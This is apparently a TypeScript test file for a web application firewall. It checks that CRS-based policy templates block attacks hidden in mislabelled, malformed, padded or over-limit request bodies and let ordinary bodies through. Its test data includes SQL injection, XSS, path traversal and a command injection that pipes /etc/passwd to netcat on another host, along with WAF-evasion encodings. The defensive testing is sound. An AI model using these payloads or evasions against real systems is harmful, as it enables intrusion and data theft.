/**
 * Runs the built-in templates over bodies that a Content-Type, an error, a limit or padding once
 * hid: every attack is blocked, what only exceeds a limit is answered as the template says, and
 * ordinary bodies pass. Debian's CRS 3.3.4, and CRS 4.28 where the corpus has it.
 */

import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { PolicyJson } from '../../proto/gen/waf/v1/policy_pb.ts';
import { renderPolicy } from '../../control/domain/policy/policy-seclang.ts';
import { builtInTemplates } from '../../control/domain/policy/policy-templates.ts';
import {
  builtInCrsFolder,
  readRulesetFolder,
} from '../../control/publish/rulesets/ruleset-folder.ts';
import type { TransactionRecord } from '../../engine/contract/verdict.ts';
import type { PolicyEngine } from '../../engine/rules/run/policy-engine.ts';
import { headFrom } from '../../engine/rules/load/test-sample.ts';
import { policyAlone, simulateRequest } from '../../engine/simulate/simulated-request.ts';
import { makeConnection } from '../../engine/rules/oracle/conformance/exchange.ts';
import { builtPolicy } from '../support/built-policy.ts';
import { corpusRoot } from './corpus.ts';

const timeoutMs = 600_000;
const crs4Folder = path.join(corpusRoot, 'crs', '4.28.0');
const rulesets = [builtInCrsFolder, crs4Folder].filter((folder) => existsSync(folder));

const engines = new Map<string, PolicyEngine>();
afterAll(() => engines.forEach((engine) => engine.retire()));

type ArgLimits = NonNullable<PolicyJson['argLimits']>;

async function engineOf(
  name: string,
  folder: string,
  limits: ArgLimits = {},
  core: NonNullable<PolicyJson['crsCore']> = {},
): Promise<PolicyEngine> {
  const key = JSON.stringify([name, folder, limits, core]);
  const known = engines.get(key);
  if (known !== undefined) return known;
  const template = builtInTemplates.find((one) => one.name === name)!;
  const argLimits = { ...template.argLimits, ...limits };
  const policy = { ...template, argLimits, crsCore: { ...template.crsCore, ...core } };
  const { version, includes, files } = readRulesetFolder(folder);
  const { seclang } = renderPolicy(policy, { version, includes });
  const source = {
    id: name,
    name,
    revision: '1',
    seclangEntry: seclang,
    files: new Map(files.map((file) => [file.path, file.content])),
  };
  const engine = await builtPolicy(source, `observed ${name} ${version}`);
  engines.set(key, engine);
  return engine;
}

interface Answer {
  /** 0: it passed. */
  readonly status: number;
  readonly record: TransactionRecord;
  readonly rules: readonly number[];
}

/** How the body ends: after its length, with its last chunk, with HTTP/2's last frame. */
const framings = ['length', 'chunked', 'http2'] as const;
type Framing = (typeof framings)[number];

/** As the front asks; the bytes count, not what is announced. */
function send(
  engine: PolicyEngine,
  type: string,
  content: string | Buffer,
  more: readonly string[] = [],
  framing: Framing = 'length',
): Answer {
  const bytes = Buffer.from(content as string);
  const method = bytes.length === 0 ? 'GET' : 'POST';
  const target = more[0]?.startsWith('/') ? more[0] : '/';
  const fields = more.filter((line) => !line.startsWith('/'));
  const typed = type === '' ? [] : [`Content-Type: ${type}`];
  const lines = ['Host: a.example', 'User-Agent: Mozilla/5.0', 'Accept: */*', ...typed, ...fields];
  if (method === 'POST' && framing === 'length') lines.push(`Content-Length: ${bytes.length}`);
  if (method === 'POST' && framing === 'chunked') lines.push('Transfer-Encoding: chunked');
  const version = framing === 'http2' ? 'HTTP/2.0' : 'HTTP/1.1';
  const snapshot = {
    requestId: 'x',
    receivedAtMs: 0,
    siteId: 's',
    connection: makeConnection(),
    head: headFrom([`${method} ${target} ${version}`, ...lines].join('\r\n')),
  };
  const body = bytes.length === 0 ? null : bytes;
  const { status, outcome, record } = simulateRequest(policyAlone(engine), { snapshot, body });
  const rules = record!.matchedRules.map(({ ruleId }) => ruleId);
  // A failed inspection is neither a block nor a pass.
  return { status: outcome === 'inspection_failed' ? -1 : status, record: record!, rules };
}

const attacks = {
  sqli: "1' UNION SELECT username, password FROM users -- ",
  xss: '<script>alert(document.cookie)</script>',
  rce: ';cat /etc/passwd|nc 10.0.0.1 4444',
  lfi: '../../../../etc/passwd',
};

const json = 'application/json';
const form = 'application/x-www-form-urlencoded';
const multipart = 'multipart/form-data; boundary=B';
const quoted = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27');
const escaped = (text: string): string =>
  text.replaceAll(/[^a-z0-9 ]/gi, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
const entities = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const field = (value: string): string =>
  `Content-Disposition: form-data; name="f"\r\n\r\n${value}\r\n`;
const file = (value: string): string =>
  `Content-Disposition: form-data; name="u"; filename="a.bin"\r\n\r\n${value}\r\n`;
const parts = (...all: string[]): string => `--B\r\n${all.join('--B\r\n')}--B--\r\n`;
const utf32 = (text: string): Buffer =>
  Buffer.concat(Array.from(text, (c) => Buffer.from([c.charCodeAt(0), 0, 0, 0])));

type Body = readonly [type: string, content: string | Buffer];

/** The attack, in bodies that are not what they are called, or that no parser takes. */
const disguises: Readonly<Record<string, (attack: string) => Body>> = {
  'JSON as text/plain': (attack) => ['text/plain', JSON.stringify({ a: attack })],
  'escaped JSON as text/json': (attack) => ['text/json', `{"a":"${escaped(attack)}"}`],
  'JSON as an odd +json': (attack) => ['application/x+json2', JSON.stringify([attack])],
  'JSON without a type': (attack) => ['', JSON.stringify({ a: attack })],
  'JSON as a picture': (attack) => ['image/png', JSON.stringify({ a: attack })],
  'JSON as a form': (attack) => [form, `{"a":"${escaped(attack)}"}`],
  'JSON lines': (attack) => ['application/x-ndjson', `{"a":1}\n${JSON.stringify({ a: attack })}\n`],
  NaN: (attack) => [json, `{"x":NaN,"a":${JSON.stringify(attack)}}`],
  'a trailing comma': (attack) => [json, `{"x":[1,],"a":${JSON.stringify(attack)}}`],
  'single quotes': (attack) => [json, `{'a':'${attack.replaceAll("'", "\\'")}'}`],
  'a comment': (attack) => [json, `/* */{"a":${JSON.stringify(attack)}}`],
  'UTF-16 JSON': (attack) => [json, Buffer.from(JSON.stringify({ a: attack }), 'utf16le')],
  'UTF-16 BE JSON': (attack) => [
    json,
    Buffer.from(`\ufeff${JSON.stringify({ a: attack })}`, 'utf16le').swap16(),
  ],
  'UTF-32 JSON': (attack) => [json, utf32(JSON.stringify({ a: attack }))],
  'a form as text': (attack) => ['text/plain', `x=1&a=${quoted(attack)}`],
  'a form as JSON': (attack) => [json, `x=1&a=${quoted(attack)}`],
  'a form as XML': (attack) => ['application/xml', `a=${quoted(attack)}`],
  text: (attack) => ['text/plain', `hello ${attack}`],
  CSV: (attack) => ['text/csv', `a,b\n1,2\n${attack}`],
  'text as bytes': (attack) => ['application/octet-stream', attack],
  'XML as text': (attack) => ['text/plain', `<r><a>${entities(attack)}</a></r>`],
  'XML as a form': (attack) => [form, `<r><a>${entities(attack)}</a></r>`],
  'broken XML': (attack) => ['text/xml', `<r><b></c><a>${entities(attack)}</a>`],
  'an XML entity': (attack) => ['text/xml', `<!DOCTYPE r [<!ENTITY e '${attack}'>]><r>&e;</r>`],
};

const prose = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. ';
const padding = (bytes: number): string => prose.repeat(Math.ceil(bytes / prose.length));

/** The attack after a long harmless prefix. */
const padded: Readonly<Record<string, (attack: string, pad: string) => Body>> = {
  JSON: (attack, pad) => [json, `{"p":"${pad}","a":"${escaped(attack)}"}`],
  'a JSON list': (attack, pad) => [
    json,
    JSON.stringify([...(pad.match(/[^]{1,100}/g) ?? []), attack]),
  ],
  form: (attack, pad) => [form, `p=${quoted(pad)}&a=${quoted(attack)}`],
  'XML text': (attack, pad) => ['text/xml', `<r><p>${pad}</p><a>${entities(attack)}</a></r>`],
  'a multipart field': (attack, pad) => [multipart, parts(field(pad), field(attack))],
  'a field after a file': (attack, pad) => [multipart, parts(file(pad), field(attack))],
  text: (attack, pad) => ['text/plain', pad + attack],
  'JSON as text': (attack, pad) => ['text/plain', JSON.stringify({ pad, attack })],
};

/** Bodies that reach a limit, with the attack after it and without. */
const limits: Readonly<Record<string, (value: string) => readonly [...Body, ...string[]]>> = {
  cookies: (value) => ['', '', `Cookie: ${'a=b; '.repeat(1000)}c=${value.replaceAll(';', '')}`],
  arguments: (value) => ['', '', `/?${'aa=b&'.repeat(1000)}c=${quoted(value)}`],
  'json-depth': (value) => [json, `${'['.repeat(600)}${JSON.stringify(value)}${']'.repeat(600)}`],
  'json-names': (value) => [json, `{"${'n'.repeat(3000)}":${JSON.stringify(value)}}`],
  'xml-elements': (value) => ['text/xml', `<a>${'<b/>'.repeat(50_000)}${entities(value)}</a>`],
  'xml-depth': (value) => [
    'text/xml',
    `${'<a>'.repeat(300)}${entities(value)}${'</a>'.repeat(300)}`,
  ],
  'xml-attributes': (value) => [
    'text/xml',
    `<a>${'<b c="1"/>'.repeat(10_001)}${entities(value)}</a>`,
  ],
};

const names = Object.entries(attacks);

describe.each(rulesets)('%s', (folder) => {
  test(
    'Light inspects bodies that are not what they are called',
    { timeout: timeoutMs },
    async () => {
      const engine = await engineOf('Light', folder);
      const passed = Object.entries(disguises).flatMap(([disguise, make]) =>
        names
          .filter(([, attack]) => send(engine, ...make(attack)).status === 0)
          .map(([name]) => `${name}, ${disguise}`),
      );
      expect(passed).toEqual([]);
    },
  );

  test('Light inspects past its budget', { timeout: timeoutMs }, async () => {
    const engine = await engineOf('Light', folder);
    const passed = [70_000, 700_000].flatMap((bytes) =>
      Object.entries(padded).flatMap(([kind, make]) =>
        names
          .filter(([, attack]) => send(engine, ...make(attack, padding(bytes))).status === 0)
          .map(([name]) => `${name}, ${kind}, ${bytes}`),
      ),
    );
    expect(passed).toEqual([]);
  });

  test(
    'Light records limits and inspects past them; others refuse',
    { timeout: timeoutMs },
    async () => {
      const light = await engineOf('Light', folder);
      for (const [limit, make] of Object.entries(limits)) {
        const [type, content, ...more] = make('harmless');
        const { status, record, rules } = send(light, type, content, more);
        expect([limit, status]).toEqual([limit, 0]);
        expect(record.limitsReached).toContain(limit);
        expect(rules).toContain(199_403);
        for (const [name, attack] of names) {
          const [, attacked, ...rest] = make(attack);
          expect([limit, name, send(light, type, attacked, rest).status]).toEqual([
            limit,
            name,
            403,
          ]);
        }
        for (const template of ['Standard', 'Strict']) {
          const engine = await engineOf(template, folder);
          expect([limit, template, send(engine, type, content, more).status === 0]).toEqual([
            limit,
            template,
            false,
          ]);
        }
      }
    },
  );

  test('multipart has limits of its own, whatever the action', { timeout: timeoutMs }, async () => {
    const size = 200_000;
    const file200 = parts(file('x'.repeat(size)));
    const passes = await engineOf('Light', folder);
    expect(send(passes, multipart, file200).status).toBe(0);
    expect(send(passes, multipart, parts(file('x'.repeat(14_000_000)))).status).toBe(413);
    expect(send(passes, multipart, parts(field(padding(1_200_000)))).status).toBe(413);
  });

  test.each(['Light', 'Standard', 'Strict'])(
    '%s limits files however the body is framed',
    { timeout: timeoutMs },
    async (template) => {
      const one = parts(file('x'.repeat(200_000)));
      const two = parts(file('x'.repeat(60_000)), file('x'.repeat(60_000)));
      const exact = parts(file('x'.repeat(100_000)));
      for (const [limited, twoFiles] of [
        [{ maxFileSize: '100000' }, 0],
        [{ combinedFileSizes: '100000' }, 413],
      ] as const) {
        const engine = await engineOf(template, folder, limited);
        for (const framing of framings) {
          const statusOf = (body: string): number =>
            send(engine, multipart, body, [], framing).status;
          expect([framing, statusOf(one)]).toEqual([framing, 413]);
          expect([framing, statusOf(two)]).toEqual([framing, twoFiles]);
          expect([framing, statusOf(exact)]).toEqual([framing, 0]);
        }
      }
    },
  );

  test(
    'OBSERVE records what a form has after the limit of bodies, and limits files there',
    { timeout: timeoutMs },
    async () => {
      const limited = { maxFileSize: '300000', combinedFileSizes: '400000' };
      for (const action of ['RECORD', 'OFF'] as const) {
        const excess = { requestBodyExcessAction: `REQUEST_BODY_EXCESS_ACTION_${action}` } as const;
        const engine = await engineOf('Light', folder, limited, excess);
        const statusOf = (framing: Framing, ...pieces: readonly string[]): number =>
          send(engine, multipart, parts(...pieces), [], framing).status;
        const file100 = file('x'.repeat(100_000));
        for (const framing of framings) {
          const found = names.map(([, attack]) => [
            statusOf(framing, field(attack), file100),
            statusOf(framing, file100, field(attack)),
            statusOf(framing, field(padding(70_000)), field(attack)),
          ]);
          expect([framing, found]).toEqual([framing, names.map(() => [403, 0, 0])]);
          expect(statusOf(framing, file100, file('x'.repeat(310_000)))).toBe(413);
          expect(statusOf(framing, file100, file100, file100, file100, file100)).toBe(413);
          expect(statusOf(framing, file100, file('x'.repeat(290_000)))).toBe(0);
          // Past the limit of uploads the whole body is refused, whatever it holds.
          expect(statusOf(framing, field(padding(1_200_000)))).toBe(413);
        }
      }
    },
  );

  test('ordinary bodies pass under Light', { timeout: timeoutMs }, async () => {
    const engine = await engineOf('Light', folder);
    const item = { id: 7, name: 'Jane Doe', mail: 'jane@example.com', note: prose, ok: true };
    const items = Array.from({ length: 2_000 }, (_, i) => ({ ...item, id: i }));
    const binary = Buffer.from(
      Array.from({ length: 300_000 }, (_, i) => (Math.imul(i + 1, 2_654_435_761) >>> 13) & 255),
    );
    const bodies: readonly Body[] = [
      [json, JSON.stringify(items)],
      ['application/x-ndjson', items.map((one) => JSON.stringify(one)).join('\n')],
      [json, `{"v":NaN,"w":[1,Infinity,-Infinity],"n":"x"}`],
      ['text/plain', padding(900_000)],
      ['text/csv', items.map(({ id, name, note }) => `${id},${name},${note}`).join('\n')],
      ['text/plain', 'event=click&page=%2Fhome&t=12345&user=jane'],
      ['text/plain;charset=UTF-8', '{"u":"https://example.com/?a=1&b=2","w":1280}'],
      ['application/octet-stream', binary],
      ['image/png', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), binary])],
      ['application/atom+xml', '<feed><link href="http://example.org/"/><title>x</title></feed>'],
      [
        'application/xml',
        '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><key>a</key></plist>',
      ],
    ];
    const blocked = bodies.flatMap(([type, content], at) => {
      const { status, rules } = send(engine, type, content);
      return status === 0 ? [] : [`${at} ${type}: ${status} ${rules.join()}`];
    });
    expect(blocked).toEqual([]);
  });
});
